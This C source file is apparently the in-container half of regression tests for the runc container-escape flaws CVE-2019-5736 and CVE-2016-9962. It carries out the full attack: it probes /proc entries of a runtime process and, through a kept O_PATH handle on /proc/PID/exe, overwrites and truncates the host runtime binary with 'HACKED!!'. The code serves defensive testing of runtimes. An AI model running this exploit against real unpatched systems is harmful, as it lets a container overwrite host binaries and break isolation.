/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * exe-attack: the container side of the CVE-2019-5736 and CVE-2016-9962 regression tests. Runs
 * inside a container (static, no libraries) and attacks a runtime process visible in the
 * container's pid namespace the way those exploits did, reporting what the kernel allowed.
 *
 * Usage:
 *   exe-attack (--target PID | --match-arg WORD) [--same-caps] [--release FIFO] [--timeout SEC]
 *
 *   --target PID      the process to attack (e.g. 1: the parked init of a created container)
 *   --match-arg WORD  attack the first other process that has WORD as one of its argv words
 *   --same-caps       before looking, wait until the target's permitted capabilities equal ours:
 *                     uid and capabilities then match, so only the target's dumpability can make
 *                     the kernel refuse the /proc probes (CVE-2016-9962)
 *   --release FIFO    after the first look, open FIFO and drain it until the target is gone (a
 *                     target blocked opening it for writing goes on and exits)
 *   --timeout SEC     give up after SEC seconds (default 30)
 *
 * Prints "ready" (flushed) when it starts looking, "looked" after the first look at the target,
 * then one JSON object on one line:
 *   pid, comm          the target and its name at the first look
 *   same_caps          whether its CapPrm equalled ours at the first look
 *   exe                readlink of /proc/PID/exe, or the errno name
 *   environ, mem       open(/proc/PID/environ | mem, O_RDONLY): "ok" or the errno name (ptrace
 *                      access checks: refused for a non-dumpable target unless CAP_SYS_PTRACE)
 *   open_wronly        open(/proc/PID/exe, O_WRONLY) while the target runs it
 *   direct_write       when that open succeeded: write(2) to it
 *   opath              open(/proc/PID/exe, O_PATH), kept for later
 *   map_files          opendir(/proc/PID/map_files): "ok" or the errno name
 *   map_files_writable the files other than memfds mapped by the target that open(2) O_WRONLY
 *                      accepted through /proc/PID/map_files (space-separated; never written)
 *   after_comm, after_environ   once the target has exec'd or exited: its name (null when gone)
 *                      and the environ probe again
 *   reopen             open(/proc/self/fd/N, O_WRONLY) of the O_PATH handle, retried while
 *                      ETXTBSY (the file is still being executed) until the timeout
 *   write, truncate    on the reopened handle: pwrite of "HACKED!!" at offset 0, ftruncate to 0.
 *                      "ok" means the attack worked: the file behind /proc/PID/exe was changed.
 *   error              set when no target was found
 * Exit status: 0 when it printed a report, 2 on a usage error.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double deadline;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool expired(void)
{
	return now() > deadline;
}

static void pause_ms(long ms)
{
	struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};
	nanosleep(&ts, NULL);
}

static const char *errname(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static void usage(void)
{
	fprintf(stderr, "usage: exe-attack (--target PID | --match-arg WORD) [--same-caps] [--release FIFO] "
	                "[--timeout SEC]\n");
	exit(2);
}

/* Reads a small /proc file; returns its length or -errno. */
static ssize_t read_small(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	ssize_t n = read(fd, buf, size - 1);
	int e = errno;
	close(fd);
	if (n < 0)
		return -e;
	buf[n] = 0;
	return n;
}

static bool has_arg(int pid, const char *word)
{
	char path[64], buf[8192];
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	ssize_t n = read_small(path, buf, sizeof(buf));
	for (ssize_t off = 0; n > 0 && off < n; off += (ssize_t)strlen(buf + off) + 1)
		if (strcmp(buf + off, word) == 0)
			return true;
	return false;
}

static int find_by_arg(const char *word)
{
	for (;;) {
		DIR *d = opendir("/proc");
		if (!d)
			return -1;
		struct dirent *de;
		int found = -1;
		while ((de = readdir(d))) {
			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			int pid = atoi(de->d_name);
			if (pid != getpid() && has_arg(pid, word)) {
				found = pid;
				break;
			}
		}
		closedir(d);
		if (found > 0 || expired())
			return found;
		pause_ms(1);
	}
}

/* The value of "Key:" in /proc/PID/status, or "" */
static void status_field(int pid, const char *key, char *out, size_t size)
{
	char path[64], buf[4096];
	out[0] = 0;
	if (pid > 0)
		snprintf(path, sizeof(path), "/proc/%d/status", pid);
	else
		snprintf(path, sizeof(path), "/proc/self/status");
	if (read_small(path, buf, sizeof(buf)) <= 0)
		return;
	size_t kl = strlen(key);
	for (char *l = buf; l && *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : NULL) {
		if (strncmp(l, key, kl) == 0 && l[kl] == ':') {
			char *v = l + kl + 1;
			while (*v == ' ' || *v == '\t')
				v++;
			size_t n = strcspn(v, "\n");
			if (n >= size)
				n = size - 1;
			memcpy(out, v, n);
			out[n] = 0;
			return;
		}
	}
}

/* comm of pid, or "" when it is gone (or a zombie: it no longer runs anything). */
static void comm_of(int pid, char *out, size_t size)
{
	char state[64];
	status_field(pid, "State", state, sizeof(state));
	if (state[0] == 0 || state[0] == 'Z' || state[0] == 'X') {
		out[0] = 0;
		return;
	}
	status_field(pid, "Name", out, size);
}

static const char *probe_open(int pid, const char *file, int flags)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/%s", pid, file);
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return errname(errno);
	close(fd);
	return "ok";
}

/* The /proc/PID/map_files variant: every file the target has mapped (its shared libraries, the
 * dynamic loader) is reachable through those links for a holder of CAP_SYS_PTRACE (or same
 * credentials and a dumpable target) together with CAP_CHECKPOINT_RESTORE or CAP_SYS_ADMIN. Lists,
 * space-separated, the link targets other than memfds that open(2) O_WRONLY accepted. NEVER writes:
 * on an unprotected host these are the real shared libraries. Returns "ok" when it could list
 * the directory, else the errno name. */
static const char *probe_map_files(int pid, char *out, size_t size)
{
	char dir[64];
	out[0] = 0;
	snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
	DIR *d = opendir(dir);
	if (!d)
		return errname(errno);
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		char link[512], target[256];
		snprintf(link, sizeof(link), "%s/%s", dir, de->d_name);
		ssize_t n = readlink(link, target, sizeof(target) - 1);
		if (n <= 0)
			continue;
		target[n] = 0;
		if (strncmp(target, "/memfd:", 7) == 0 || strstr(out, target))
			continue;
		int fd = open(link, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		close(fd);
		size_t used = strlen(out);
		snprintf(out + used, size - used, "%s%s", used ? " " : "", target);
	}
	closedir(d);
	return "ok";
}

static void put_str(const char *key, const char *v, bool comma)
{
	if (!v) {
		printf("\"%s\":null%s", key, comma ? "," : "");
		return;
	}
	printf("\"%s\":\"", key);
	for (const char *p = v; *p; p++) {
		if (*p == '"' || *p == '\\')
			printf("\\%c", *p);
		else if ((unsigned char)*p < 0x20)
			printf("\\u%04x", *p);
		else
			putchar(*p);
	}
	printf("\"%s", comma ? "," : "");
}

int main(int argc, char **argv)
{
	int target = -1;
	const char *match = NULL, *release = NULL;
	bool same_caps = false;
	double timeout = 30;

	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--target") == 0 && i + 1 < argc)
			target = atoi(argv[++i]);
		else if (strcmp(argv[i], "--match-arg") == 0 && i + 1 < argc)
			match = argv[++i];
		else if (strcmp(argv[i], "--release") == 0 && i + 1 < argc)
			release = argv[++i];
		else if (strcmp(argv[i], "--timeout") == 0 && i + 1 < argc)
			timeout = atof(argv[++i]);
		else if (strcmp(argv[i], "--same-caps") == 0)
			same_caps = true;
		else
			usage();
	}
	if ((target > 0) == (match != NULL))
		usage();
	deadline = now() + timeout;
	printf("ready\n");
	fflush(stdout);

	if (match)
		target = find_by_arg(match);
	if (target <= 0) {
		printf("{\"error\":\"no process with argument %s found\"}\n", match);
		return 0;
	}

	/* First look, while the target is still the runtime. */
	char mine[64], theirs[64] = "";
	status_field(0, "CapPrm", mine, sizeof(mine));
	bool caps_equal = false;
	do {
		status_field(target, "CapPrm", theirs, sizeof(theirs));
		caps_equal = strcmp(mine, theirs) == 0;
		if (!same_caps || caps_equal || expired() || theirs[0] == 0)
			break;
		pause_ms(1);
	} while (true);

	char comm[64], exe[4096], path[64];
	comm_of(target, comm, sizeof(comm));
	snprintf(path, sizeof(path), "/proc/%d/exe", target);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	if (n >= 0)
		exe[n] = 0;
	else
		snprintf(exe, sizeof(exe), "%s", errname(errno));
	const char *environ_r = probe_open(target, "environ", O_RDONLY);
	const char *mem_r = probe_open(target, "mem", O_RDONLY);

	const char *direct_write = NULL;
	const char *open_wronly;
	int wfd = open(path, O_WRONLY | O_CLOEXEC);
	if (wfd >= 0) {
		open_wronly = "ok";
		direct_write = pwrite(wfd, "HACKED!!", 8, 0) == 8 ? "ok" : errname(errno);
		close(wfd);
	} else {
		open_wronly = errname(errno);
	}
	int opath = open(path, O_PATH | O_CLOEXEC);
	const char *opath_r = opath >= 0 ? "ok" : errname(errno);
	char mapped[4096];
	const char *map_files_r = probe_map_files(target, mapped, sizeof(mapped));
	printf("looked\n");
	fflush(stdout);

	/* O_RDWR never blocks on a FIFO (Linux) and lets a writer blocked in open(2) go on; we
	 * drain what it writes until it is gone, so it never blocks on a full pipe either. */
	int ffd = release ? open(release, O_RDWR | O_NONBLOCK | O_CLOEXEC) : -1;

	/* Wait for the target to exec something else or to go away. */
	char after[64] = "";
	for (;;) {
		char buf[4096];
		while (ffd >= 0 && read(ffd, buf, sizeof(buf)) > 0)
			;
		comm_of(target, after, sizeof(after));
		if (after[0] == 0 || strcmp(after, comm) != 0 || expired())
			break;
		pause_ms(1);
	}
	if (ffd >= 0)
		close(ffd);
	const char *after_environ = after[0] ? probe_open(target, "environ", O_RDONLY) : NULL;

	/* The CVE-2019-5736 step: once nothing executes the file any more (ETXTBSY until then),
	 * reopen the kept handle for writing and overwrite it. */
	const char *reopen = NULL, *write_r = NULL, *trunc_r = NULL;
	if (opath >= 0) {
		char self[64];
		snprintf(self, sizeof(self), "/proc/self/fd/%d", opath);
		for (;;) {
			int fd = open(self, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				reopen = "ok";
				write_r = pwrite(fd, "HACKED!!", 8, 0) == 8 ? "ok" : errname(errno);
				trunc_r = ftruncate(fd, 0) == 0 ? "ok" : errname(errno);
				close(fd);
				break;
			}
			reopen = errname(errno);
			if (errno != ETXTBSY || expired())
				break;
			pause_ms(10);
		}
	}

	printf("{\"pid\":%d,", target);
	put_str("comm", comm, true);
	printf("\"same_caps\":%s,", caps_equal ? "true" : "false");
	put_str("exe", exe, true);
	put_str("environ", environ_r, true);
	put_str("mem", mem_r, true);
	put_str("open_wronly", open_wronly, true);
	put_str("direct_write", direct_write, true);
	put_str("opath", opath_r, true);
	put_str("map_files", map_files_r, true);
	put_str("map_files_writable", mapped, true);
	put_str("after_comm", after[0] ? after : NULL, true);
	put_str("after_environ", after_environ, true);
	put_str("reopen", reopen, true);
	put_str("write", write_r, true);
	put_str("truncate", trunc_r, false);
	printf("}\n");
	fflush(stdout);
	return 0;
}
